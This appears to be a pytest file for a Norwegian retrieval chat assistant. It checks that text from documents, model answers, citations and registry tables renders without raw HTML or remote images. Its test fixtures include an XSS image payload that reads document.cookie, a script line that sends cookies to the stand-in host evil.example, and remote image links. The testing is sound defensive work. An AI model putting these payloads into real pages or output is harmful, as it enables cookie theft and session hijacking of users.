"""Text from documents, models and the registry renders without remote images or raw HTML.

Each test renders the chat's Markdown with a CommonMark renderer that passes raw HTML through
(as Chainlit would with `unsafe_allow_html = true`), so only our escaping keeps the tags out.
"""

from __future__ import annotations

import tomllib
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from assistant.answers.answer import Answer
from assistant.answers.citations import Citation
from assistant.chat.answer_markdown import elements, render
from assistant.chat.markdown_safety import inert_markdown
from assistant.chat.registry_markdown import markdown_table, sorry
from assistant.index.retrieval import SearchResult

pytestmark = pytest.mark.usefixtures("chainlit_context")
REPO = Path(__file__).resolve().parents[2]
IMG = "<img src=x onerror=alert(document.cookie)>"
SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>"
PICTURE = "![x](https://evil.example/p.png)"
REFERENCE = "![logo][r]\n\n[r]: https://evil.example/r.png"
PLANTED = f"Budsjettet er 3 mill. {IMG} Se {PICTURE} og {SCRIPT} nå!"


def html_of(markdown: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)


def assert_inert(html: str) -> None:
    lowered = html.lower()
    assert "<img" not in lowered, html
    assert "<script" not in lowered, html
    assert "onerror" not in lowered or "&lt;img" in lowered, html


def test_the_renderer_in_these_tests_does_pass_raw_html_and_images() -> None:
    """Without the escaping, the planted passage would load an image and run a script."""
    raw = html_of(PLANTED)
    assert "<img src=x onerror" in raw
    assert '<img src="https://evil.example/p.png"' in raw
    assert "<script>" in raw


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (IMG, "&lt;img src=x onerror=alert(document.cookie)&gt;"),
        (SCRIPT, "&lt;script&gt;fetch('https://evil.example/'+document.cookie)&lt;/script&gt;"),
        (PICTURE, "![x](https://evil.example/p.png)"),
        (REFERENCE, "![logo]"),
        (PLANTED, "Se ![x](https://evil.example/p.png) og &lt;script&gt;"),
    ],
)
def test_planted_markup_shows_as_the_text_it_is(text: str, shown: str) -> None:
    html = html_of(inert_markdown(text))
    assert_inert(html)
    assert shown in html.replace("&quot;", '"').replace("&#x27;", "'")


def test_ordinary_text_and_markdown_read_the_same() -> None:
    text = "Utnyttelsen er **under 70 prosent** [1]! Se kapittel 2 < 3 og C:\\mappe."
    html = html_of(inert_markdown(text))
    assert "<strong>under 70 prosent</strong>" in html
    assert "[1]! Se kapittel 2 &lt; 3 og C:\\mappe." in html


def test_a_streamed_answer_is_inert_token_by_token() -> None:
    """`!` and `[` arrive in different tokens (the draft then shows a link, never an image)."""
    tokens = ["Se ", "!", "[x](https://evil.example/p.png) ", "\\", "![y](https://e.example/q)"]
    assert_inert(html_of("".join(inert_markdown(t) for t in tokens)))
    tokens = ["Se <", "img src=x onerror=alert(1)>", " <scr", "ipt>alert(1)</script>"]
    assert_inert(html_of("".join(inert_markdown(t) for t in tokens)))


def _citation() -> Citation:
    return Citation(
        n=1,
        source=f"budsjett{IMG}.md",
        location=f"Kapittel {PICTURE}",
        quote=f"Budsjettet er 3 mill. {IMG}",
        passage=PLANTED,
        provenance=f"Gjengitt fra {SCRIPT}",
    )


def test_an_answer_is_inert_and_its_sources_stay_plain_text() -> None:
    answer = Answer(
        question="Hva er budsjettet?",
        text=f"Budsjettet er 3 mill. [1] {PICTURE}",
        abstained=False,
        mode="llm",
        model="smollm2",
        citations=[_citation()],
        removed_sentences=[f"Send {IMG} til {REFERENCE}"],
        notice=f"Modellen svarte ikke: {SCRIPT}",
    )
    assert_inert(html_of(render(answer)))
    (element,) = elements(answer)
    # Props are text React escapes (tests/chat/test_answer_markdown: the JSX renders no HTML);
    # nothing is pre-escaped, so a reader sees the document's characters as they are.
    assert element.props["items"][0]["passage"] == PLANTED


def test_an_abstention_and_its_closest_documents_are_inert() -> None:
    closest = SearchResult(
        chunk_id="c1",
        text=PLANTED,
        source=f"{PICTURE}.md",
        title="t",
        location=IMG,
        score=0.1,
    )
    answer = Answer(
        question="Hva koster det?",
        text=f"Nærmeste dokument er {PICTURE}.",
        abstained=True,
        mode="extractive",
        model="extractive",
        closest=[closest],
    )
    assert_inert(html_of(render(answer)))
    (element,) = elements(answer)
    assert element.props["items"][0]["source"] == f"{PICTURE}.md"


def test_registry_tables_and_errors_are_inert() -> None:
    table = markdown_table(["navn", "begrunnelse"], [[f"Kari {IMG}", f"OK {PICTURE} | {SCRIPT}"]])
    html = html_of(table)
    assert_inert(html)
    assert html.count("<td>") == 2  # the pipe in the text did not add a column
    assert_inert(html_of(sorry(ValueError(f"No user {IMG}"), "en")))


def test_chainlit_renders_no_raw_html() -> None:
    """The project's Chainlit config keeps raw HTML off, under the key Chainlit reads."""
    from chainlit.config import FeaturesSettings

    assert "unsafe_allow_html" in FeaturesSettings.model_fields
    config = tomllib.loads((REPO / ".chainlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["features"]["unsafe_allow_html"] is False
